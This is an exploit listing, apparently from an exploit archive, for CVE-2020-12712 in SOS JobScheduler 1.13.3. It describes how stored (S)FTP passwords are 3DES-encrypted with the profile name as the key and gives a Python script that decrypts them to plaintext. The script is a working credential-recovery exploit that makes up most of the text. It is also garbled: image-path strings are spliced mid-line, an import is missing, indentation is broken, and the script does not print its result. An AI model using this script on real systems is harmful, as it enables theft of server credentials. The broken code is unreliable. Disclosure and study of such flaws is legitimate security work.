SOS JobScheduler 1.13.3 Stored Password Decryption

SOS JobScheduler version 1.13.3 encrypts a secret by simply using the name of a profile as the key, making it trivial to decrypt.

MD5 | 0e1d9d95541efe28b4066b11d845271c

# Exploit Title: SOS JobScheduler 1.13.3 - Stored Password Decryption
# Google Dork: N/A
# Date: 2020-04-20
# Exploit Author: Sander Ubink
# Vendor Homepage:
# Software Link:
# Version: Tested on 1.12.9 and 1.13.3, vendor reported 1.12 and 1.13
# Tested on: Windows and Linux
# CVE: CVE-2020-12712

# Description: SOS JobScheduler is a tool for remote system administration that allows users to call maintenance scripts via a web interface.
# The tool places the maintenance scripts on the remote systems by means of (S)FTP. It allows the user to save profiles for these connections,
# in which the password for the (S)FTP connection is optionally stored. When the user chooses to store the password with the profile,
# it is encrypted using the name of the profile as the encryption key. Since the name of the profile is stored in the same configuration file,# the plaintext (S)FTP password can trivially be recovered. The encryption algorithm used is Triple DES (3DES) with three keys, requiring a key
# length of 24 bytes. The profile name is padded to this length to create the key. Finally, the encrypted password gets base64 encoded before
# being stored in the configuration file.

# Usage: python [encrypted password in base64] [profile name]

import pyDes
import base64
import argparseparser = argparse.ArgumentParser(description="Decrypt the password stored in a Jobscheduler (S)FTP profileconfiguration file")
parser.add_argument("password", help="password to be decrypted")
parser.add_argument("profilename", help="name of the profile")
args = parser.parse_args()

if len(args.profilename) > 24:
sys.exit("Profile name islonger than 24 characters. Check the validity of the input.")

key = args.profilename + ((24 - len(args.profilename)) * " ")
cipher = pyDes.triple_des(key, pyDes.ECB, b"\0\0\0\0\0\0\0\0", pad=" ", padmode=None)
plain =cipher.decrypt(base64.b64decode(args.password))


Related Posts